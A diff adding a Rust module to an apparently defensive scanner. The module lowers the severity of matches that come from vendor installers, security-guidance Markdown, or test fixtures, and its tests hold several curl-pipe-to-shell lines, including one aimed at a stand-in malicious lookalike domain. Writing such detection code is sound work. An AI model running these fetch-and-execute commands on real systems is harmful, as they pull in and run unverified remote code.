@@ -1,0 +1,215 @@
+//! Where a match describes rather than does, which lowers its weight by two levels (as a quoted
+//! example does) unless the scan is `--strict`:
+//! - a vendor's own installer piped to a shell (`curl -LsSf https://astral.sh/uv/install.sh |
+//!   sh`): still unpinned, but the documented way to install that tool, not a stranger's code;
+//! - security guidance: a match in a Markdown reference (not SKILL.md, which the agent follows)
+//!   whose section speaks of attackers, exploits or vulnerable code;
+//! - test fixtures: a secret-shaped string in a test file or fixture directory, where scanners
+//!   and redaction code keep the shapes they must catch.
+
+use super::rule::{Category, Rule};
+
+/// Why a match weighs less.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Why {
+    VendorInstaller,
+    Guidance,
+    TestFixture,
+}
+
+/// Installers that vendors document for their own tools, by URL prefix (scheme removed).
+const VENDOR_INSTALLERS: &[&str] = &[
+    "sh.rustup.rs",
+    "astral.sh/uv/",
+    "astral.sh/ruff/",
+    "claude.ai/install.",
+    "fnm.vercel.app/install",
+    "bun.sh/install",
+    "deno.land/install.",
+    "deno.land/x/install",
+    "get.pnpm.io/install.",
+    "install.python-poetry.org",
+    "pyenv.run",
+    "raw.githubusercontent.com/homebrew/install/",
+    "raw.githubusercontent.com/nvm-sh/nvm/",
+    "raw.githubusercontent.com/ohmyzsh/ohmyzsh/",
+    "raw.githubusercontent.com/helm/helm/",
+    "deb.nodesource.com/setup_",
+    "rpm.nodesource.com/setup_",
+    "get.docker.com",
+    "get.sdkman.io",
+    "sdk.cloud.google.com",
+    "ollama.com/install.sh",
+    "starship.rs/install.sh",
+    "tailscale.com/install.sh",
+    "get.k3s.io",
+    "install.determinate.systems/nix",
+    "nixos.org/nix/install",
+    "get.volta.sh",
+    "mise.run",
+    "sh.vector.dev",
+    "get.opentofu.org/",
+    "dl.cloudsmith.io/public/",
+    "packages.microsoft.com/",
+    "cli.github.com/packages",
+    "opencode.ai/install",
+];
+
+/// Whether a line runs a vendor's documented installer or a tagged release of a project hosted
+/// on GitHub (`/releases/download/v1.2.3/`, or a cargo-dist `*-installer.sh` of the project).
+pub fn vendor_installer(line: &str) -> bool {
+    let lower = line.to_ascii_lowercase();
+    let mut urls = lower
+        .match_indices("https://")
+        .map(|(i, _)| &lower[i + 8..]);
+    urls.any(|u| {
+        let u = u
+            .split(|c: char| c.is_whitespace() || c == '"' || c == '\'' || c == ')' || c == '`')
+            .next()
+            .unwrap_or(u);
+        VENDOR_INSTALLERS.iter().any(|p| u.starts_with(p))
+            || u.starts_with("github.com/")
+                && u.split('/').nth(3) == Some("releases")
+                && (u.split('/').nth(4) == Some("download")
+                    || u.ends_with("-installer.sh")
+                    || u.ends_with("-installer.ps1"))
+    })
+}
+
+/// Words of a section that describes attacks or vulnerable code.
+const GUIDANCE_WORDS: &[&str] = &[
+    "attacker",
+    "attack",
+    "malicious",
+    "exploit",
+    "vulnerab",
+    "insecure",
+    "unsafe",
+    "dangerous:",
+    "// dangerous",
+    "# dangerous",
+    "bad:",
+    "❌",
+    "threat model",
+    "injection",
+];
+
+/// How far back a section's words are looked for.
+const SECTION_BYTES: usize = 3000;
+
+/// Whether the text before `offset` in its section (back to the last heading, at most
+/// [`SECTION_BYTES`]) speaks of attacks, and the match sits in a Markdown reference.
+pub fn in_guidance(path: &str, text: &str, offset: usize) -> bool {
+    let name = path.rsplit('/').next().unwrap_or(path);
+    if name.eq_ignore_ascii_case("SKILL.md") {
+        return false;
+    }
+    let mut start = offset.saturating_sub(SECTION_BYTES);
+    while !text.is_char_boundary(start) {
+        start += 1;
+    }
+    let mut end = offset.min(text.len());
+    while !text.is_char_boundary(end) {
+        end -= 1;
+    }
+    // The line of the match counts too: `// DANGEROUS: no validation` above or on it.
+    let line_end = text[end..].find('\n').map_or(text.len(), |i| end + i);
+    let before = &text[start..line_end];
+    let section = match before.rfind("\n#") {
+        Some(i) => &before[i..],
+        None => before,
+    };
+    let lower = section.to_lowercase();
+    GUIDANCE_WORDS.iter().any(|w| lower.contains(w))
+}
+
+/// Whether a file is a test or a fixture (`tests/`, `test_x.py`, `x.test.ts`, `fixtures/`).
+pub fn test_fixture(path: &str) -> bool {
+    let lower = path.to_ascii_lowercase();
+    let name = lower.rsplit('/').next().unwrap_or(&lower);
+    lower.split('/').any(|d| {
+        matches!(
+            d,
+            "tests" | "test" | "__tests__" | "fixtures" | "testdata" | "test-data" | "spec"
+        )
+    }) || name.starts_with("test_")
+        || name.contains("_test.")
+        || name.contains(".test.")
+        || name.contains(".spec.")
+}
+
+/// Why this rule's match at `offset` of `path` describes rather than does, if it does.
+pub fn why(rule: &Rule, path: &str, text: &str, offset: usize, markdown: bool) -> Option<Why> {
+    let line_start = text[..offset.min(text.len())]
+        .rfind('\n')
+        .map_or(0, |i| i + 1);
+    let line_end = text[line_start..]
+        .find('\n')
+        .map_or(text.len(), |i| line_start + i);
+    // A continued command spans lines: the URL may sit on the line before.
+    let context_start = text[..line_start.saturating_sub(1)]
+        .rfind('\n')
+        .map_or(0, |i| i + 1);
+    let around = &text[context_start..line_end];
+    if rule.category == Category::SupplyChain && vendor_installer(around) {
+        return Some(Why::VendorInstaller);
+    }
+    if rule.category == Category::CredentialExposure && test_fixture(path) {
+        return Some(Why::TestFixture);
+    }
+    if markdown && in_guidance(path, text, offset) {
+        return Some(Why::Guidance);
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn vendor_installers_and_tagged_releases() {
+        assert!(vendor_installer(
+            "curl -LsSf https://astral.sh/uv/install.sh | sh"
+        ));
+        assert!(vendor_installer(
+            "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh"
+        ));
+        assert!(vendor_installer(
+            "sh -c \"$(curl -fsSL https://github.com/o/r/releases/download/v1.2/x.sh)\""
+        ));
+        assert!(!vendor_installer(
+            "curl -fsSL https://get.example.invalid/x.sh | bash"
+        ));
+        assert!(!vendor_installer(
+            "curl https://astral.sh.evil.example/uv/install.sh | sh"
+        ));
+        assert!(!vendor_installer(
+            "curl https://github.com/o/r/raw/main/x.sh | sh"
+        ));
+    }
+
+    #[test]
+    fn guidance_is_a_reference_section_about_attacks() {
+        let doc = "# Vectors\n\n## Why it matters\n\nAn attacker can run `curl x | sh` here.\n\n## Setup\n\n`curl y | sh`\n";
+        let at = |s: &str| doc.find(s).unwrap();
+        assert!(in_guidance("references/v.md", doc, at("curl x")));
+        assert!(
+            !in_guidance("references/v.md", doc, at("curl y")),
+            "a later section"
+        );
+        assert!(
+            !in_guidance("SKILL.md", doc, at("curl x")),
+            "SKILL.md is followed"
+        );
+    }
+
+    #[test]
+    fn test_files() {
+        assert!(test_fixture("tests/fixtures/keys.txt"));
+        assert!(test_fixture("scripts/test_redact.py"));
+        assert!(test_fixture("src/redact.test.ts"));
+        assert!(!test_fixture("scripts/deploy.sh"));
+        assert!(!test_fixture("references/latest.md"));
+    }
+}
